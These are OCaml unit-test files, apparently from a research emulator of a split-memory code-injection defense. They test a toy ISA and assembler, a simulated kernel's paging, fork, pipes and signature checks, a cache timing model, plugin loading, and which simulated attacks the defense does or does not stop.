let test_non_control_data () =
  (* the secret leaks under every defense — no injected code ever runs *)
  List.iter
    (fun d ->
      Alcotest.(check bool)
        ("secret leaks under " ^ Defense.name d)
        true
        (L.run_non_control_data ~defense:d ()))
    [ Defense.unprotected; Defense.nx; Defense.split_standalone; Defense.split_soft_tlb ]

let test_non_control_data_benign () =
  (* without the overflow the flag stays clear and access is denied *)
  let s = R.start ~defense:Defense.split_standalone (L.bank_victim ()) in
  R.send s "hunter2\n";
  ignore (R.step s);
  let out = Kernel.Os.read_stdout s.k s.victim in
  Alcotest.(check bool) "denied" true (String.length out >= 4 && String.sub out 0 4 = "DENY")

let test_ret_into_code () =
  List.iter
    (fun d ->
      let o = L.run_ret_into_code ~defense:d () in
      Alcotest.(check bool)
        ("ret-into-code spawns a shell under " ^ Defense.name d)
        true (R.is_attack_success o))
    [ Defense.unprotected; Defense.nx; Defense.split_standalone; Defense.split_soft_tlb ]

let test_self_modifying_code () =
  (* works on a von Neumann machine... *)
  (match L.run_self_modifying ~defense:Defense.unprotected () with
  | R.Completed 55 -> ()
  | o -> Alcotest.failf "smc unprotected: %s" (R.outcome_name o));
  (match L.run_self_modifying ~defense:Defense.nx () with
  | R.Completed 55 -> ()
  | o -> Alcotest.failf "smc under nx (mixed page executable): %s" (R.outcome_name o));
  (* ...but not when the page is split: the generated code is unreachable *)
  let o = L.run_self_modifying ~defense:Defense.split_standalone () in
  Alcotest.(check bool) "smc breaks under split (documented)" false
    (o = R.Completed 55)

let suite =
  [
    Alcotest.test_case "non-control-data attack not stopped" `Quick test_non_control_data;
    Alcotest.test_case "non-control-data benign path" `Quick test_non_control_data_benign;
    Alcotest.test_case "return-into-existing-code not stopped" `Quick test_ret_into_code;
    Alcotest.test_case "self-modifying code incompatible" `Quick test_self_modifying_code;
  ]

let test_per_process_opt_out () =
  (* §3.3.1 backwards compatibility: the SMC program opts out of splitting
     and runs correctly, while other processes on the same kernel remain
     protected. *)
  let k = Kernel.Os.create ~protection:(Defense.to_protection Defense.split_standalone) () in
  let smc = Kernel.Os.spawn ~protected:false k (L.smc_victim ()) in
  ignore (Kernel.Os.run k);
  (match smc.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 55) -> ()
  | st -> Alcotest.failf "opted-out smc must work: %a" Kernel.Proc.pp_state st);
  (* a protected victim on the same kernel is still defended *)
  let victim = Kernel.Os.spawn k (L.launcher_victim ()) in
  ignore victim;
  let o = Attack.Realworld.run ~defense:Defense.split_standalone Attack.Realworld.Bind in
  Alcotest.(check bool) "others still protected" true (R.is_foiled o)

let suite =
  suite
  @ [ Alcotest.test_case "per-process opt-out (S3.3.1)" `Quick test_per_process_opt_out ]

let test_opt_out_inherited_by_fork () =
  (* an opted-out (von Neumann) process's children stay opted out *)
  let image =
    Kernel.Image.build ~name:"optfork"
      ~code:(fun ~lbl:_ ->
        Isa.Asm.
          [
            L "main";
            I (Mov_ri (EAX, 2));
            I (Int 0x80);
            I (Cmp_ri (EAX, 0));
            I (Jz (Lbl "child"));
            I (Mov_rr (EBX, EAX));
            I (Mov_ri (EAX, 7));
            I (Int 0x80);
            I (Mov_ri (EBX, 0));
            I (Mov_ri (EAX, 1));
            I (Int 0x80);
            L "child";
            (* touch a fresh heap page: must not be split *)
            I (Mov_ri (EBX, Kernel.Layout.heap_base));
            I (Mov_ri (EAX, 1));
            I (Storeb (EBX, 0, EAX));
            I (Mov_ri (EBX, 0));
            I (Mov_ri (EAX, 1));
            I (Int 0x80);
          ])
      ~entry:"main" ()
  in
  let k = Kernel.Os.create ~protection:(Defense.to_protection Defense.split_standalone) () in
  let parent = Kernel.Os.spawn ~protected:false k image in
  let split_seen = ref false in
  (* run in small steps and scan children for split pages *)
  let rec drive n =
    if n = 0 then ()
    else begin
      ignore (Kernel.Os.run ~fuel:50 k);
      List.iter
        (fun (c : Kernel.Proc.t) ->
          Kernel.Aspace.iter_ptes c.aspace (fun pte ->
              if Kernel.Pte.is_split pte then split_seen := true))
        (Kernel.Os.procs k);
      drive (n - 1)
    end
  in
  drive 50;
  ignore (Kernel.Os.run k);
  Alcotest.(check bool) "no page ever split" false !split_seen;
  match parent.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 0) -> ()
  | st -> Alcotest.failf "parent: %a" Kernel.Proc.pp_state st

let suite =
  suite
  @ [ Alcotest.test_case "opt-out inherited across fork" `Quick test_opt_out_inherited_by_fork ]
