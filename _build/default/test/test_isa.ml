(* ISA: encoding/decoding roundtrips, assembler layout and label handling,
   disassembly. *)

open Isa

let all_fixed_instrs =
  let r1 = Reg.EAX and r2 = Reg.EBP in
  [
    Insn.Nop;
    Insn.Hlt;
    Insn.Mov_ri (r1, 0xDEADBEEF);
    Insn.Mov_rr (r1, r2);
    Insn.Load (r1, r2, -12);
    Insn.Store (r2, 4096, r1);
    Insn.Loadb (r1, r2, 0);
    Insn.Storeb (r2, -1, r1);
    Insn.Push r1;
    Insn.Pop r2;
    Insn.Lea (r1, r2, 123456);
    Insn.Add (r1, r2);
    Insn.Sub (r1, r2);
    Insn.Add_ri (r1, -1);
    Insn.Cmp (r1, r2);
    Insn.Cmp_ri (r1, 7);
    Insn.And_ (r1, r2);
    Insn.Or_ (r1, r2);
    Insn.Xor (r1, r2);
    Insn.Mul (r1, r2);
    Insn.Shl (r1, 31);
    Insn.Shr (r1, 1);
    Insn.Jmp (Rel 0);
    Insn.Jz (Rel (-6));
    Insn.Jnz (Rel 100);
    Insn.Jl (Rel 5);
    Insn.Jge (Rel (-5));
    Insn.Jmp_r r2;
    Insn.Call (Rel 1000);
    Insn.Call_r r1;
    Insn.Ret;
    Insn.Int 0x80;
  ]

let test_roundtrip_fixed () =
  List.iter
    (fun insn ->
      let bytes = Encode.to_string insn in
      Alcotest.(check int)
        (Insn.to_string insn ^ " size")
        (Insn.size insn) (String.length bytes);
      match Decode.of_string bytes 0 with
      | Ok insn' ->
        Alcotest.(check bool) (Insn.to_string insn ^ " roundtrip") true (insn = insn')
      | Error _ -> Alcotest.failf "decode failed for %s" (Insn.to_string insn))
    all_fixed_instrs

let test_bad_opcode () =
  (match Decode.of_string "\x00" 0 with
  | Error (Decode.Bad_opcode 0) -> ()
  | Ok _ | Error _ -> Alcotest.fail "opcode 0x00 must be invalid");
  match Decode.of_string "\xFF" 0 with
  | Error (Decode.Bad_opcode 0xFF) -> ()
  | Ok _ | Error _ -> Alcotest.fail "opcode 0xFF must be invalid"

let test_bad_register () =
  (* Mov_rr with register field 9 *)
  match Decode.of_string "\x02\x09\x00" 0 with
  | Error (Decode.Bad_register 9) -> ()
  | Ok _ | Error _ -> Alcotest.fail "register 9 must be rejected"

let test_reg_roundtrip () =
  List.iter
    (fun r ->
      Alcotest.(check bool) (Reg.name r) true (Reg.of_int (Reg.to_int r) = Some r))
    Reg.all;
  Alcotest.(check bool) "of_int 8" true (Reg.of_int 8 = None)

let test_sign32 () =
  Alcotest.(check int) "positive" 5 (Decode.sign32 5);
  Alcotest.(check int) "negative" (-1) (Decode.sign32 0xFFFFFFFF);
  Alcotest.(check int) "min" (-0x80000000) (Decode.sign32 0x80000000)

open Isa.Asm

let test_assembler_labels () =
  let prog =
    [
      L "start";
      I (Mov_ri (EAX, 1));
      I (Jmp (Lbl "end"));
      L "middle";
      I Nop;
      L "end";
      I Ret;
    ]
  in
  let a = assemble ~origin:0x1000 prog in
  Alcotest.(check int) "start" 0x1000 (label a "start");
  Alcotest.(check int) "middle" 0x100B (label a "middle");
  Alcotest.(check int) "end" 0x100C (label a "end");
  (* jmp at 0x1006, next = 0x100B, target 0x100C -> rel = 1 *)
  match Decode.of_string a.code 6 with
  | Ok (Insn.Jmp (Rel 1)) -> ()
  | Ok i -> Alcotest.failf "unexpected %s" (Insn.to_string i)
  | Error _ -> Alcotest.fail "decode"

let test_assembler_duplicate () =
  match assemble [ L "x"; L "x" ] with
  | exception Duplicate_label "x" -> ()
  | _ -> Alcotest.fail "expected Duplicate_label"

let test_assembler_undefined () =
  match assemble [ I (Jmp (Lbl "nowhere")) ] with
  | exception Undefined_label "nowhere" -> ()
  | _ -> Alcotest.fail "expected Undefined_label"

let test_assembler_align_space () =
  let a = assemble ~origin:0 [ I Nop; Align 16; L "aligned"; Space 3; Word32 0xAABBCCDD ] in
  Alcotest.(check int) "aligned addr" 16 (label a "aligned");
  Alcotest.(check int) "total size" 23 (String.length a.code);
  Alcotest.(check char) "le byte 0" '\xDD' a.code.[19];
  Alcotest.(check char) "le byte 3" '\xAA' a.code.[22]

let test_disasm () =
  let a = assemble [ I Nop; I (Mov_ri (EAX, 11)); I (Int 0x80) ] in
  let text = Isa.Disasm.to_string ~base:0 a.code ~pos:0 ~len:(String.length a.code) in
  Alcotest.(check bool) "mentions nop" true
    (Astring_contains.contains text "nop");
  Alcotest.(check bool) "mentions int" true
    (Astring_contains.contains text "int 0x80")

let suite =
  [
    Alcotest.test_case "every instruction roundtrips" `Quick test_roundtrip_fixed;
    Alcotest.test_case "invalid opcodes rejected" `Quick test_bad_opcode;
    Alcotest.test_case "invalid register rejected" `Quick test_bad_register;
    Alcotest.test_case "register int roundtrip" `Quick test_reg_roundtrip;
    Alcotest.test_case "sign32" `Quick test_sign32;
    Alcotest.test_case "assembler resolves labels" `Quick test_assembler_labels;
    Alcotest.test_case "duplicate label rejected" `Quick test_assembler_duplicate;
    Alcotest.test_case "undefined label rejected" `Quick test_assembler_undefined;
    Alcotest.test_case "align/space/word layout" `Quick test_assembler_align_space;
    Alcotest.test_case "disassembler output" `Quick test_disasm;
  ]
