(* Kernel: loader, signatures, demand paging, COW/fork, pipes, signals,
   memory accounting. *)

open Isa.Asm

let exit_image ?(code = 0) ?(name = "exiter") () =
  Kernel.Image.build ~name ~code:(fun ~lbl:_ -> L "main" :: Guest.sys_exit code) ~entry:"main" ()

let run_image ?(protection = Kernel.Protection.none) image =
  let k = Kernel.Os.create ~protection () in
  let p = Kernel.Os.spawn k image in
  let reason = Kernel.Os.run k in
  (k, p, reason)

let check_exited ?(code = 0) (p : Kernel.Proc.t) =
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited n) when n = code -> ()
  | s -> Alcotest.failf "expected exit(%d), got %a" code Kernel.Proc.pp_state s

(* --- loader & signatures ------------------------------------------------- *)

let test_exit_code () =
  let _, p, _ = run_image (exit_image ~code:42 ()) in
  check_exited ~code:42 p

let test_signature_rejected () =
  let image = Kernel.Image.tamper (exit_image ()) in
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  (match Kernel.Os.spawn k image with
  | exception Kernel.Os.Rejected_image _ -> ()
  | _ -> Alcotest.fail "tampered image must be rejected");
  Alcotest.(check bool) "logged" true
    (Kernel.Event_log.find_first (Kernel.Os.log k) (function
       | Kernel.Event_log.Library_rejected _ -> true
       | _ -> false)
    <> None)

let test_signature_reseal () =
  (* resealing a tampered image makes it loadable again (a trusted rebuild) *)
  let image = Kernel.Image.seal (Kernel.Image.tamper (exit_image ())) in
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  ignore (Kernel.Os.spawn k image)

let test_signature_disabled () =
  let image = Kernel.Image.tamper (exit_image ()) in
  let k = Kernel.Os.create ~verify_signatures:false ~protection:Kernel.Protection.none () in
  ignore (Kernel.Os.spawn k image)

(* --- demand paging -------------------------------------------------------- *)

let test_stack_growth () =
  (* touch memory far down the stack: demand paging maps it *)
  let image =
    Kernel.Image.build ~name:"deepstack"
      ~code:(fun ~lbl:_ ->
        [
          L "main";
          I (Lea (EBX, ESP, -40000));
          I (Mov_ri (EAX, 0x77));
          I (Storeb (EBX, 0, EAX));
          I (Loadb (ECX, EBX, 0));
          I (Mov_rr (EBX, ECX));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
        ])
      ~entry:"main" ()
  in
  let _, p, _ = run_image image in
  check_exited ~code:0x77 p

let test_segfault_outside_regions () =
  let image =
    Kernel.Image.build ~name:"wild"
      ~code:(fun ~lbl:_ ->
        [ L "main"; I (Mov_ri (EBX, 0x20000000)); I (Loadb (EAX, EBX, 0)) ]
        @ Guest.sys_exit 0)
      ~entry:"main" ()
  in
  let _, p, _ = run_image image in
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigsegv) -> ()
  | s -> Alcotest.failf "expected SIGSEGV, got %a" Kernel.Proc.pp_state s

let test_rodata_write_faults () =
  let image =
    Kernel.Image.build ~name:"rowrite" ~rodata:[ L "konst"; Word32 5 ]
      ~code:(fun ~lbl ->
        [ L "main"; I (Mov_ri (EBX, lbl "konst")); I (Mov_ri (EAX, 9)); I (Store (EBX, 0, EAX)) ]
        @ Guest.sys_exit 0)
      ~entry:"main" ()
  in
  let _, p, _ = run_image image in
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigsegv) -> ()
  | s -> Alcotest.failf "expected SIGSEGV, got %a" Kernel.Proc.pp_state s

(* --- fork & COW ----------------------------------------------------------- *)

let fork_cow_image () =
  (* parent writes 'P' to a data page after fork; child writes 'C'; each
     then reads its own value back and exits with it. *)
  Kernel.Image.build ~name:"cow"
    ~data:(fun ~lbl:_ -> [ L "cell"; Word32 0 ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EAX, 2));
        I (Int 0x80);
        I (Cmp_ri (EAX, 0));
        I (Jz (Lbl "child"));
        (* parent: wait for child, then write and read own copy *)
        I (Mov_rr (EBX, EAX));
        I (Mov_ri (EAX, 7));
        I (Int 0x80);
        I (Mov_ri (EBX, lbl "cell"));
        I (Mov_ri (EAX, 0x50));
        I (Store (EBX, 0, EAX));
        I (Load (ECX, EBX, 0));
        I (Mov_rr (EBX, ECX));
        I (Mov_ri (EAX, 1));
        I (Int 0x80);
        L "child";
        I (Mov_ri (EBX, lbl "cell"));
        I (Mov_ri (EAX, 0x43));
        I (Store (EBX, 0, EAX));
        I (Load (ECX, EBX, 0));
        I (Mov_rr (EBX, ECX));
        I (Mov_ri (EAX, 1));
        I (Int 0x80);
      ])
    ~entry:"main" ()

let test_fork_cow_isolation ~protection () =
  let k = Kernel.Os.create ~protection () in
  let parent = Kernel.Os.spawn k (fork_cow_image ()) in
  let reason = Kernel.Os.run k in
  Alcotest.(check bool) "finished" true (reason = Kernel.Os.All_exited);
  check_exited ~code:0x50 parent

let test_fork_cow_unprotected () = test_fork_cow_isolation ~protection:Kernel.Protection.none ()

let test_fork_cow_split () =
  test_fork_cow_isolation ~protection:(Split_memory.protection ()) ()

(* --- frame accounting ----------------------------------------------------- *)

let test_no_frame_leak () =
  List.iter
    (fun protection ->
      let k = Kernel.Os.create ~protection () in
      let _ = Kernel.Os.spawn k (fork_cow_image ()) in
      let _ = Kernel.Os.run k in
      (* the parent is a zombie (not reaped), its pages already freed *)
      Alcotest.(check int)
        ("frames freed under " ^ protection.Kernel.Protection.name)
        0
        (Kernel.Frame_alloc.in_use (Kernel.Os.alloc k)))
    [ Kernel.Protection.none; Split_memory.protection () ]

(* --- pipes and scheduling -------------------------------------------------- *)

let test_pipe_syscall () =
  (* create a pipe, push a byte through it, exit with that byte *)
  let image =
    Kernel.Image.build ~name:"piper"
      ~data:(fun ~lbl:_ -> [ L "fds"; Words [ 0; 0 ]; L "msg"; Bytes "Z"; L "buf"; Space 4 ])
      ~code:(fun ~lbl ->
        [
          L "main";
          I (Mov_ri (EAX, 42));
          I (Mov_ri (EBX, lbl "fds"));
          I (Int 0x80);
          I (Mov_ri (ESI, lbl "fds"));
          I (Load (EDI, ESI, 4));
          (* write fd *)
          I (Mov_ri (EAX, 4));
          I (Mov_rr (EBX, EDI));
          I (Mov_ri (ECX, lbl "msg"));
          I (Mov_ri (EDX, 1));
          I (Int 0x80);
          I (Mov_ri (ESI, lbl "fds"));
          I (Load (EBX, ESI, 0));
          (* read fd *)
          I (Mov_ri (EAX, 3));
          I (Mov_ri (ECX, lbl "buf"));
          I (Mov_ri (EDX, 1));
          I (Int 0x80);
          I (Mov_ri (ESI, lbl "buf"));
          I (Loadb (EBX, ESI, 0));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
        ])
      ~entry:"main" ()
  in
  let _, p, _ = run_image image in
  check_exited ~code:(Char.code 'Z') p

let test_blocking_read_then_feed () =
  let image =
    Kernel.Image.build ~name:"reader"
      ~data:(fun ~lbl:_ -> [ L "buf"; Space 16 ])
      ~code:(fun ~lbl ->
        Guest.sys_read_imm ~buf:(lbl "buf") ~len:16
        |> fun read ->
        (L "main" :: read)
        @ [ I (Mov_ri (ESI, lbl "buf")); I (Loadb (EBX, ESI, 0)); I (Mov_ri (EAX, 1)); I (Int 0x80) ])
      ~entry:"main" ()
  in
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  let p = Kernel.Os.spawn k image in
  Alcotest.(check bool) "blocks waiting input" true (Kernel.Os.run k = Kernel.Os.All_blocked);
  ignore (Kernel.Os.feed_stdin k p "Q");
  Alcotest.(check bool) "finishes" true (Kernel.Os.run k = Kernel.Os.All_exited);
  check_exited ~code:(Char.code 'Q') p

let test_eof_on_closed_stdin () =
  let image =
    Kernel.Image.build ~name:"eof"
      ~data:(fun ~lbl:_ -> [ L "buf"; Space 16 ])
      ~code:(fun ~lbl ->
        (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:16)
        @ [ I (Mov_rr (EBX, EAX)); I (Add_ri (EBX, 77)); I (Mov_ri (EAX, 1)); I (Int 0x80) ])
      ~entry:"main" ()
  in
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  let p = Kernel.Os.spawn k image in
  Kernel.Os.close_stdin k p;
  ignore (Kernel.Os.run k);
  check_exited ~code:77 p

let test_sigpipe () =
  (* writing to stdout after the driver closes the read side *)
  let image =
    Kernel.Image.build ~name:"sigpipe"
      ~data:(fun ~lbl:_ -> [ L "m"; Bytes "x" ])
      ~code:(fun ~lbl ->
        (L "main" :: Guest.sys_write_imm ~buf:(lbl "m") ~len:1 ()) @ Guest.sys_exit 0)
      ~entry:"main" ()
  in
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  let p = Kernel.Os.spawn k image in
  Kernel.Pipe.close_reader p.console_out;
  ignore (Kernel.Os.run k);
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigpipe) -> ()
  | s -> Alcotest.failf "expected SIGPIPE, got %a" Kernel.Proc.pp_state s

(* --- syscall misc ----------------------------------------------------------- *)

let test_brk_and_heap () =
  let image =
    Kernel.Image.build ~name:"brk"
      ~code:(fun ~lbl:_ ->
        [
          L "main";
          (* brk(0) returns the current break *)
          I (Mov_ri (EAX, 45));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
          I (Mov_rr (ESI, EAX));
          (* extend and write at the old break *)
          I (Mov_rr (EBX, ESI));
          I (Add_ri (EBX, 8192));
          I (Mov_ri (EAX, 45));
          I (Int 0x80);
          I (Mov_ri (EAX, 0x31));
          I (Storeb (ESI, 0, EAX));
          I (Loadb (EBX, ESI, 0));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
        ])
      ~entry:"main" ()
  in
  let _, p, _ = run_image image in
  check_exited ~code:0x31 p

let test_getpid_and_unknown_syscall () =
  let image =
    Kernel.Image.build ~name:"pid"
      ~code:(fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (EAX, 999));
          (* unknown syscall: returns -ENOSYS, must not crash *)
          I (Int 0x80);
          I (Mov_ri (EAX, 20));
          I (Int 0x80);
          I (Mov_rr (EBX, EAX));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
        ])
      ~entry:"main" ()
  in
  let _, p, _ = run_image image in
  check_exited ~code:1 p (* first spawned process has pid 1 *)

let test_copy_user_across_pages () =
  let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
  let p = Kernel.Os.spawn k (exit_image ()) in
  let addr = Kernel.Layout.heap_base + 4090 in
  let data = String.init 100 (fun i -> Char.chr (i land 0xFF)) in
  Kernel.Os.copy_to_user k p addr data;
  Alcotest.(check string) "roundtrip across page boundary" data
    (Kernel.Os.copy_from_user k p addr 100)

let test_read_cstring () =
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  let p = Kernel.Os.spawn k (exit_image ()) in
  let addr = Kernel.Layout.heap_base in
  Kernel.Os.copy_to_user k p addr "hello\000world";
  Alcotest.(check string) "stops at NUL" "hello" (Kernel.Os.read_cstring k p addr ~max:64)

let suite =
  [
    Alcotest.test_case "exit code propagates" `Quick test_exit_code;
    Alcotest.test_case "tampered image rejected" `Quick test_signature_rejected;
    Alcotest.test_case "resealed image accepted" `Quick test_signature_reseal;
    Alcotest.test_case "verification can be disabled" `Quick test_signature_disabled;
    Alcotest.test_case "stack grows on demand" `Quick test_stack_growth;
    Alcotest.test_case "wild access segfaults" `Quick test_segfault_outside_regions;
    Alcotest.test_case "rodata write segfaults" `Quick test_rodata_write_faults;
    Alcotest.test_case "fork + COW isolation (stock)" `Quick test_fork_cow_unprotected;
    Alcotest.test_case "fork + COW isolation (split)" `Quick test_fork_cow_split;
    Alcotest.test_case "no frame leaks at exit" `Quick test_no_frame_leak;
    Alcotest.test_case "pipe syscall roundtrip" `Quick test_pipe_syscall;
    Alcotest.test_case "blocking read wakes on feed" `Quick test_blocking_read_then_feed;
    Alcotest.test_case "read EOF on closed stdin" `Quick test_eof_on_closed_stdin;
    Alcotest.test_case "sigpipe on readerless write" `Quick test_sigpipe;
    Alcotest.test_case "brk extends the heap" `Quick test_brk_and_heap;
    Alcotest.test_case "getpid, unknown syscall" `Quick test_getpid_and_unknown_syscall;
    Alcotest.test_case "kernel copies across pages" `Quick test_copy_user_across_pages;
    Alcotest.test_case "read_cstring stops at NUL" `Quick test_read_cstring;
  ]
