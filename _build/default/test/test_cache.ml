(* Cache timing model and its self-modifying-code coherency behaviour. *)

let test_cache_basics () =
  let c = Hw.Cache.create ~name:"t" ~lines:4 () in
  Alcotest.(check bool) "cold miss" false (Hw.Cache.access c 0x1000);
  Alcotest.(check bool) "hit" true (Hw.Cache.access c 0x1000);
  Alcotest.(check bool) "same line hit" true (Hw.Cache.access c 0x103F);
  Alcotest.(check bool) "next line misses" false (Hw.Cache.access c 0x1040);
  (* direct-mapped conflict: 4 lines of 64B -> stride 256 aliases *)
  Alcotest.(check bool) "conflict evicts" false (Hw.Cache.access c 0x1100);
  Alcotest.(check bool) "original now misses" false (Hw.Cache.access c 0x1000)

let test_cache_invalidate () =
  let c = Hw.Cache.create ~name:"t" ~lines:8 () in
  ignore (Hw.Cache.access c 0x2000);
  Alcotest.(check bool) "invalidate cached" true (Hw.Cache.invalidate c 0x2000);
  Alcotest.(check bool) "invalidate uncached" false (Hw.Cache.invalidate c 0x2000);
  Alcotest.(check bool) "miss after invalidate" false (Hw.Cache.access c 0x2000);
  Hw.Cache.flush c;
  Alcotest.(check bool) "miss after flush" false (Hw.Cache.access c 0x2000)

let test_smc_penalty_through_mmu () =
  let phys = Hw.Phys.create ~frames:8 () in
  let cost = Hw.Cost.create () in
  let mmu = Hw.Mmu.create ~phys ~cost () in
  Hw.Mmu.enable_caches mmu;
  let table = Hashtbl.create 4 in
  Hashtbl.replace table 0
    { Hw.Mmu.frame = 1; present = true; writable = true; user = true; nx = false };
  Hw.Mmu.reload_cr3 mmu (Hashtbl.find_opt table);
  (* execute-side access caches the line *)
  ignore (Hw.Mmu.fetch8 mmu ~from_user:true 0x100);
  let before = cost.cycles in
  (* a store to the same line must pay the coherency penalty *)
  Hw.Mmu.write8 mmu ~from_user:true 0x100 0x90;
  Alcotest.(check bool) "smc penalty charged" true
    (cost.cycles - before >= cost.params.smc_penalty);
  let before = cost.cycles in
  (* a store to a line never fetched pays only the dcache cost *)
  Hw.Mmu.write8 mmu ~from_user:true 0xF00 0x90;
  Alcotest.(check bool) "plain store cheap" true
    (cost.cycles - before < cost.params.smc_penalty)

let test_kernel_code_write_always_pays () =
  let phys = Hw.Phys.create ~frames:8 () in
  let cost = Hw.Cost.create () in
  let mmu = Hw.Mmu.create ~phys ~cost () in
  Hw.Mmu.enable_caches mmu;
  let before = cost.cycles in
  Hw.Mmu.kernel_code_write mmu ~frame:1 ~off:4095 0x32;
  Alcotest.(check bool) "conservative snoop penalty" true
    (cost.cycles - before >= cost.params.smc_penalty);
  Alcotest.(check int) "byte landed" 0x32 (Hw.Phys.read8 phys ~frame:1 ~off:4095)

let test_caches_off_by_default () =
  let phys = Hw.Phys.create ~frames:4 () in
  let cost = Hw.Cost.create () in
  let mmu = Hw.Mmu.create ~phys ~cost () in
  Alcotest.(check bool) "no icache" true (Hw.Mmu.icache mmu = None);
  Alcotest.(check bool) "no dcache" true (Hw.Mmu.dcache mmu = None)

let suite =
  [
    Alcotest.test_case "direct-mapped access/conflict" `Quick test_cache_basics;
    Alcotest.test_case "invalidate and flush" `Quick test_cache_invalidate;
    Alcotest.test_case "smc coherency penalty via mmu" `Quick test_smc_penalty_through_mmu;
    Alcotest.test_case "kernel code write pays snoop" `Quick test_kernel_code_write_always_pays;
    Alcotest.test_case "caches are opt-in" `Quick test_caches_off_by_default;
  ]
