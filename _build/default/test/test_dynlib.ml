(* Runtime dynamic-library loading (paper §4.3): valid plugins load, run,
   and get split like everything else; tampered plugins are rejected by
   signature validation before a single byte is mapped. *)

open Isa.Asm

(* A plugin: entry point writes "LIB!" and returns. Labels inside a
   library resolve relative to its prelink base, which is only known at
   registration; the call/pop trick finds the embedded string. *)
let crypto_plugin =
  [
    L "entry";
    I (Call (Lbl "next"));
    L "next";
    I (Pop ESI);
    (* esi = address of "next"; msg sits pop+lea+3*mov_ri+int+ret = 30 bytes on *)
    I (Lea (ECX, ESI, 30));
    I (Mov_ri (EAX, 4));
    I (Mov_ri (EBX, 1));
    I (Mov_ri (EDX, 4));
    I (Int 0x80);
    I Ret;
    L "msg";
    Bytes "LIB!";
  ]

(* Victim: reads a library name, uselib()s it, calls its entry. *)
let host_image () =
  Kernel.Image.build ~name:"plugin-user"
    ~data:(fun ~lbl:_ -> [ L "name"; Space 64 ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "name") ~len:63)
      @ [
          I (Mov_ri (EAX, 137));
          I (Mov_ri (EBX, lbl "name"));
          I (Int 0x80);
          I (Cmp_ri (EAX, 0));
          I (Jl (Lbl "refused"));
          I (Call_r EAX);
        ]
      @ Guest.sys_exit 0
      @ (L "refused" :: Guest.sys_exit 44))
    ~entry:"main" ()

let offset_of_msg () =
  (* pop(2) + lea(7) + 3 mov_ri(18) + int(2) + ret(1) *)
  2 + 7 + 18 + 2 + 1

let session defense =
  let k = Kernel.Os.create ~protection:(Defense.to_protection defense) () in
  let _base = Kernel.Os.register_library k "crypto" crypto_plugin in
  let p = Kernel.Os.spawn k (host_image ()) in
  (k, p)

let test_offset_assumption () =
  (* keep the call/pop displacement honest against the encoder *)
  let a = Isa.Asm.assemble ~origin:0 crypto_plugin in
  Alcotest.(check int) "msg offset from next"
    (offset_of_msg ())
    (Isa.Asm.label a "msg" - Isa.Asm.label a "next")

let test_valid_plugin_runs () =
  List.iter
    (fun defense ->
      let k, p = session defense in
      ignore (Kernel.Os.feed_stdin k p "crypto\000");
      ignore (Kernel.Os.run k);
      Alcotest.(check string)
        ("plugin output under " ^ Defense.name defense)
        "LIB!" (Kernel.Os.read_stdout k p);
      match p.state with
      | Kernel.Proc.Zombie (Kernel.Proc.Exited 0) -> ()
      | st -> Alcotest.failf "%a" Kernel.Proc.pp_state st)
    [ Defense.unprotected; Defense.split_standalone; Defense.split_soft_tlb ]

let test_tampered_plugin_rejected () =
  let k, p = session Defense.split_standalone in
  Kernel.Os.tamper_library k "crypto";
  ignore (Kernel.Os.feed_stdin k p "crypto\000");
  ignore (Kernel.Os.run k);
  Alcotest.(check bool) "rejection logged" true
    (Kernel.Event_log.find_first (Kernel.Os.log k) (function
       | Kernel.Event_log.Library_rejected { name } -> name = "crypto"
       | _ -> false)
    <> None);
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 44) -> ()
  | st -> Alcotest.failf "host must see the refusal: %a" Kernel.Proc.pp_state st

let test_unknown_plugin () =
  let k, p = session Defense.split_standalone in
  ignore (Kernel.Os.feed_stdin k p "nonesuch\000");
  ignore (Kernel.Os.run k);
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 44) -> ()
  | st -> Alcotest.failf "ENOENT path: %a" Kernel.Proc.pp_state st

(* Host variant that parks on a read after running the plugin, so the
   mapped library page can be inspected while the process is alive. *)
let parked_host_image () =
  Kernel.Image.build ~name:"plugin-user-parked"
    ~data:(fun ~lbl:_ -> [ L "name"; Space 64 ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "name") ~len:63)
      @ [
          I (Mov_ri (EAX, 137));
          I (Mov_ri (EBX, lbl "name"));
          I (Int 0x80);
          I (Call_r EAX);
        ]
      @ Guest.sys_read_imm ~buf:(lbl "name") ~len:8
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let test_plugin_pages_are_split () =
  let k = Kernel.Os.create ~protection:(Defense.to_protection Defense.split_standalone) () in
  ignore (Kernel.Os.register_library k "crypto" crypto_plugin);
  let p = Kernel.Os.spawn k (parked_host_image ()) in
  ignore (Kernel.Os.feed_stdin k p "crypto\000");
  ignore (Kernel.Os.run k);
  Alcotest.(check string) "plugin ran" "LIB!" (Kernel.Os.read_stdout k p);
  let split_lib_pages = ref 0 in
  Kernel.Aspace.iter_ptes p.aspace (fun pte ->
      if pte.kind = Kernel.Pte.Lib && Kernel.Pte.is_split pte then incr split_lib_pages);
  Alcotest.(check bool) "library page split" true (!split_lib_pages > 0)

let suite =
  [
